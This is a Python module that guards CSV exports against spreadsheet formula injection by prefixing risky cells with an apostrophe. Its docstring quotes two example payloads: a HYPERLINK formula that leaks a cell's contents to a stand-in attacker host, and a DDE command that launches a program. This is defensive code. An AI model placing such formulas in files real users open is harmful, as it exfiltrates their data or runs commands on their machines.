"""CSV cells a spreadsheet shows as text: the one guard against formula (CSV) injection.

Every CSV the SDK writes (audit events, findings) carries text that others chose: principal
names, user agents, a reporter's title. Opened in a spreadsheet, a cell such as
`=HYPERLINK("https://evil.example/?"&A1)` or `=cmd|' /C calc'!A0` would run on the reader's
machine. `safe_cell` prefixes a `'` to any cell that starts with a character a spreadsheet reads
as the start of a formula: `=`, `+`, `-`, `@` (OWASP's CSV injection advice), tab and carriage
return (which some spreadsheets skip before looking for one), and NUL (ASVS 5.0, 1.2.10).

What this module does not do: quote or escape for the CSV format itself (the `csv` module does,
per RFC 4180), or make a cell safe for anything but a spreadsheet. The `'` is visible to a
program reading the file; that is the price, and the leaves of the audit log, not its CSV, are
the evidence.
"""

from __future__ import annotations

__all__ = ["safe_cell"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r\0")


def safe_cell(value: object) -> str | int | float:
    """`value` as a CSV cell: None is empty, a number stays a number, anything else is its text,
    with a leading `'` if it would start a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value  # written as digits: -5 is a number, not a formula
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text[:1] in FORMULA_STARTS else text
